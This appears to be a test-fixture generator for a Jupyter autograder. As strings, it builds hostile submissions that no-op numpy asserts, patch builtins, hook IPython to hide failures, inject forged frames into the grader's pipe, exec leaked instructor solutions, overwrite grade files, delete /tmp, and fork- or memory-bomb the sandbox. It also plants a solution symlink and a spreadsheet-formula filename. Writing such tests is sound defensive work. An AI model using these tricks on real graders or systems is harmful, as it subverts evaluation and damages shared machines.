"""The hostile and broken submissions every notebook's corpus gets (tests/make_submissions.py).

Named by what they do. The tampering tricks of ../shared/research/grading.md and the sandbox
attacks go into the FIRST answer cell, whose function is left wrong (its stub returns None);
every other answer is the solution. So a tampering submission that earned a point on the first
question would show up in expected.csv, and the other questions show the batch went on.
"""

import copy
import json
import re
import unicodedata

import nbformat

STUB = re.compile(r"raise NotImplementedError\(\)")
PLAIN_WRONG = "fails_first_answer_returns_none"

# student code: wrap every function and method the answer cells defined with WRAPPER
WRAP_EVERY_ANSWER = """for _name, _value in list(globals().items()):
    if _name.startswith("_") or getattr(_value, "__module__", "") != "__main__":
        continue
    if isinstance(_value, type):
        for _attr, _method in list(vars(_value).items()):
            if callable(_method) and not _attr.startswith("__"):
                setattr(_value, _attr, WRAPPER(_method))
    elif callable(_value):
        globals()[_name] = WRAPPER(_value)
"""

TAMPER = {
    "tamper_noop_np_testing": """import numpy as np
import numpy.testing

for _name in dir(np.testing):
    if _name.startswith("assert"):
        setattr(np.testing, _name, lambda *args, **kwargs: None)
""",
    "tamper_eq_always_true": """class AlwaysEqual(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__

    def __getattr__(self, name):
        return self

    def __getitem__(self, key):
        return self
""",
    "tamper_set_custom_exc": """get_ipython().set_custom_exc(
    (BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None
)
""",
    "tamper_input_transformer": """get_ipython().input_transformers_post.append(
    lambda lines: ["pass\\n"] if any("assert" in line for line in lines) else lines
)
""",
    "tamper_patched_builtins": """import builtins

builtins.all = lambda *args: True
builtins.any = lambda *args: True
builtins.abs = lambda value: 0
""",
    "tamper_swapped_sys_modules": """import sys
import types

import numpy as np

_fake = types.ModuleType("numpy.testing")
_fake.assert_allclose = _fake.assert_array_equal = lambda *args, **kwargs: None
sys.modules["numpy.testing"] = _fake
np.testing = _fake
np.allclose = np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda *args, **kwargs: np.True_
""",
    "tamper_pre_run_cell_leak": """def _leak(info):
    print("LEAK", info.raw_cell)
    with open("/tmp/leaked_tests.txt", "a") as fh:
        fh.write(info.raw_cell)


get_ipython().events.register("pre_run_cell", _leak)
""",
    "tamper_os_exit": """import os

os._exit(0)
""",
    # issue 13: attacks on the proxy design (checks outside the student's process)
    "tamper_shadows_builtins": """def range(*args):  # the checks' loops would run zero times
    return []


def len(value):
    return 0


def all(*args):
    return True


def any(*args):
    return False


def abs(value):
    return 0


def isinstance(obj, kind):  # handed the grader's np.ndarray, it would read its memory
    global _stolen
    try:
        _stolen = kind(10**6)
    except Exception:
        pass
    return True


import builtins as _builtins

# what the checks would look names up in, if a student's name could reach them
__builtins__ = dict(vars(_builtins), range=range, len=len, all=all, isinstance=isinstance)
""",
    "tamper_rewrites_check_inputs": """import functools

import numpy as _np


def _zero(value):
    if isinstance(value, _np.ndarray) and value.flags.writeable:
        value[...] = 0
    elif isinstance(value, dict):
        for item in value.values():
            _zero(item)
    elif isinstance(value, list):
        for item in value:
            _zero(item)


def _zeroing(function):
    @functools.wraps(function)
    def wrapper(*args, **kwargs):
        result = function(*args, **kwargs)
        for value in [*args, *kwargs.values()]:
            _zero(value)  # "expected" computed from the zeroed inputs would match
        return result

    return wrapper


"""
    + WRAP_EVERY_ANSWER.replace("WRAPPER", "_zeroing"),
}

CRAFTED_REPLY = """import gc
import json
import os
import struct

_runner = next(o for o in gc.get_objects() if type(o).__name__ == "Runner")


def _reply(header, blobs=()):  # a frame written straight onto the grader's pipe
    header = dict(header, blobs=[len(b) for b in blobs])
    text = json.dumps(header).encode()
    os.write(_runner.out_fd, b"AGW1" + struct.pack(">I", len(text)) + text + b"".join(blobs))


_real = _runner.op_call


def _op_call(header, blobs):
    _reply({"ok": True, "value": PAYLOAD})
    return _real(header, blobs)


_runner.op_call = _op_call
"""

HOSTILE = {
    # 40 bytes asking the old decoder for a 300 MB void scalar
    "hostile_reply_huge_scalar": CRAFTED_REPLY.replace("PAYLOAD", '{"np": "|V300000000", "v": ""}'),
    # dict keys that all hash to 0: quadratic to insert, decoded after the read deadline
    "hostile_reply_colliding_keys": CRAFTED_REPLY.replace(
        "PAYLOAD", '{"dict": [[k * (2**61 - 1), 0] for k in range(300_000)]}'
    ),
    "hostile_leaves_kernel_state": """import ctypes
import os
import socket
import time

_libc = ctypes.CDLL(None, use_errno=True)
_add_key = {"x86_64": 248, "aarch64": 217}.get(os.uname().machine)
_note = b"for the next submission"
if _add_key:  # a message in the user keyring, which outlives processes
    _libc.syscall(_add_key, b"user", b"note", _note, len(_note), -4)
_libc.msgget(0x5EC2E7, 0o1666)
_libc.shmget(0x5EC2E7, 4096, 0o1666)
open("/dev/shm/note", "wb").write(_note)
if os.fork() == 0:
    os.setsid()
    _listener = socket.socket(socket.AF_UNIX)
    _listener.bind(b"\\0note")
    _listener.listen()
    time.sleep(120)
    os._exit(0)
""",
    "hostile_infinite_loop": """while True:
    pass
""",
    # 1 GiB at a time until the sandbox's memory limit says no; the MemoryError ends the cell
    # and frees the memory (left held, TensorFlow's next op would die or raise at random)
    "hostile_memory_bomb": """import numpy as np


def _hog():
    held = []
    try:
        while True:
            held.append(np.empty(2**30, dtype=np.uint8))
            held[-1][:: 2**20] = 1
    except MemoryError:
        held.clear()  # the traceback IPython keeps would hold them otherwise
        raise


_hog()
""",
    "hostile_fork_bomb": """import os
import time

_children = 0
while _children < 5000:  # bounded: the sandbox's process limit stops it long before
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)
    _children += 1
""",
    "hostile_network": """import socket

_reached = []
for _host, _port in [("1.1.1.1", 53), ("8.8.8.8", 443), ("127.0.0.1", 22), ("pypi.org", 443)]:
    try:
        socket.create_connection((_host, _port), timeout=2).close()
        _reached.append(_host)
    except OSError:
        pass
if _reached:
    raise SystemExit(f"network reached: {_reached}")
""",
    "hostile_reads_outside": """import glob
import json
import os

_found = []
for _root in ["/work", "/root", "/home", "/tmp", "/opt", "/srv", os.path.expanduser("~")]:
    for _depth in range(0, 4):
        _pattern = "/".join([_root.rstrip("/")] + ["*"] * _depth + ["solutions", "*", "*.ipynb"])
        _found += glob.glob(_pattern)
for _path in _found:  # cheat: run the instructor's solution cells
    for _cell in json.load(open(_path))["cells"]:
        if _cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            exec("".join(_cell["source"]))
_stolen = [open(p).read() for p in glob.glob("/tmp/**/results/*.json", recursive=True)[:5]]
""",
    "hostile_writes_grader_files": """import glob
import os

_targets = glob.glob("/work/**/results/*.json", recursive=True)
_targets += glob.glob("/tmp/**/grades.csv", recursive=True)
_targets += ["/opt/autograde/autograde/__init__.py", "/usr/lib/pwned", "/submission/pwned"]
for _target in _targets:
    try:
        with open(_target, "w") as fh:
            fh.write('{"score": 999}')
    except OSError:
        pass
for _dirpath, _dirnames, _filenames in os.walk("/tmp"):
    for _name in _filenames:
        try:
            os.remove(os.path.join(_dirpath, _name))
        except OSError:
            pass
""",
}


def answer_cells(notebook):
    return [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("solution")]


def with_first_answer(notebook, prefix: str, first_stub: str, returns: str = "None"):
    """The notebook with a wrong first answer (its stub returns `returns`), then `prefix`."""
    wrong = STUB.sub(f"return {returns}", first_stub)
    answer_cells(notebook)[0].source = wrong + "\n\n\n" + prefix
    return notebook


LEAK_RECORDER = """

import builtins as _builtins
import functools as _functools
import warnings as _warnings

import numpy as _np

_seen = []


def _leaking(function):
    @_functools.wraps(function)
    def wrapper(*args, **kwargs):
        for value in args:
            if isinstance(value, _np.ndarray) and value.size:
                _seen.append(f"{float(_np.ravel(value)[0]):.6g}")
        data = "LEAK" + "_".join(_seen[-3:]).replace(".", "d").replace("-", "m")
        setattr(_builtins, data, 1)  # an integrity message would name it
        _warnings.warn(data)  # a warning a check may quote
        result = function(*args, **kwargs)
        if type(result) is float:  # a float subclass named after the data
            result = type(data, (float,), {})(result)
        if len(_seen) > 40 and len(_seen) % 7 == 0:
            raise ValueError(data)  # an error message on a visible check
        return result

    return wrapper


""" + WRAP_EVERY_ANSWER.replace("WRAPPER", "_leaking")


def leaking(filled):
    """{name: notebook}: correct answers whose functions try to carry the inputs they saw
    (hidden cases included) onto the feedback page; no page or flag may show "LEAK"."""
    notebook = copy.deepcopy(filled)
    answer_cells(notebook)[-1].source += LEAK_RECORDER
    return {"leak_hidden_inputs_to_feedback": notebook}


def tampering(filled, stub_notebook):
    """{name: notebook} for the tricks of grading.md and the attacks on the proxy design, and
    the plain wrong answer they are measured against (first answer wrong, no trick)."""
    first_stub = answer_cells(stub_notebook)[0].source
    made = {PLAIN_WRONG: with_first_answer(copy.deepcopy(filled), "", first_stub)}
    for name, code in TAMPER.items():
        returns = "AlwaysEqual(0.0)" if name == "tamper_eq_always_true" else "None"
        made[name] = with_first_answer(copy.deepcopy(filled), code, first_stub, returns)
    for name, code in HOSTILE.items():
        made[name] = with_first_answer(copy.deepcopy(filled), code, first_stub)
    return made


def broken(filled, other_filled):
    """{name: notebook} with a damaged structure."""
    changed = copy.deepcopy(filled)
    answer_cells(changed)[0].cell_type = "markdown"
    for cell in changed.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.cell_type = "raw"
            break
    for cell in changed.cells:
        if cell.cell_type != "code":
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    return {
        "broken_changed_cell_types": changed,
        "broken_other_assignment": copy.deepcopy(other_filled),
    }


def collection_attacks(folder, assignment: str, filled, stub_notebook) -> None:
    """Files that attack the collection of submissions (issue 13): a symlink to the solution,
    two names equal after Unicode normalisation, a name too long for an output file, and a
    spreadsheet formula as a student id. Written straight into `folder`."""
    link = folder / "hostile_symlink_to_solution.ipynb"
    link.symlink_to(f"../../../solutions/{assignment}/{assignment}.ipynb")
    honest = nbformat.writes(filled)
    first_stub = answer_cells(stub_notebook)[0].source
    wrong = nbformat.writes(with_first_answer(copy.deepcopy(filled), "", first_stub))
    (folder / f"{unicodedata.normalize('NFC', NFC_NAME)}.ipynb").write_text(honest, "utf-8")
    (folder / f"{unicodedata.normalize('NFD', NFC_NAME)}.ipynb").write_text(wrong, "utf-8")
    long_folder = folder / ("passes_long_name_" + "가" * 79)  # 254 bytes: <id>.json is 259
    long_folder.mkdir()
    (long_folder / "work.ipynb").write_text(honest, "utf-8")
    (folder / '=HYPERLINK("evil")+1.ipynb').write_text(honest, "utf-8")


NFC_NAME = "collision_김철수"  # the NFC file is the honest one, the NFD one is wrong


def raw_files(filled) -> dict[str, str]:
    """{name: file text} for damage nbformat would repair on writing."""
    data = json.loads(nbformat.writes(filled))
    data["nbformat"] = 3
    wrong = json.dumps(data, ensure_ascii=False, indent=1)
    data = json.loads(nbformat.writes(filled))
    solutions = [c for c in data["cells"] if c["metadata"].get("nbgrader", {}).get("solution")]
    solutions[1]["id"] = solutions[0]["id"]
    duplicated = json.dumps(data, ensure_ascii=False, indent=1)
    return {"broken_wrong_nbformat": wrong, "broken_duplicated_cell_ids": duplicated}


def passing(filled):
    """{name: notebook} that must still get full marks."""
    deleted = copy.deepcopy(filled)
    deleted.cells = [c for c in deleted.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    shuffled = copy.deepcopy(filled)
    extra = nbformat.v4.new_code_cell("scratch = [i * i for i in range(10)]", id="my-scratch")
    shuffled.cells = [extra, *reversed(shuffled.cells)]
    shuffled.cells.insert(3, nbformat.v4.new_markdown_cell("메모 (my notes)", id="my-notes"))
    noisy = copy.deepcopy(filled)
    for cell in answer_cells(noisy):
        cell.source = NOISE + cell.source
    huge = copy.deepcopy(filled)
    for index, cell in enumerate(answer_cells(huge)):
        text = "출력 " * 400_000 if index == 0 else "x"
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=text)]
    answer_cells(huge)[0].source = PRINT_A_LOT + answer_cells(huge)[0].source
    return {
        "passes_deleted_test_cells": deleted,
        "passes_inserted_and_reordered_cells": shuffled,
        "passes_with_warnings_and_prints": noisy,
        "passes_huge_outputs": huge,
    }


NOISE = """import sys
import warnings

print("작업 중 (working)...")
print("경고처럼 보이는 출력 (stderr output)", file=sys.stderr)
warnings.warn("학생이 남긴 경고 (a warning)")

"""
PRINT_A_LOT = """for _ in range(200):
    print("x" * 1_000_000)

"""
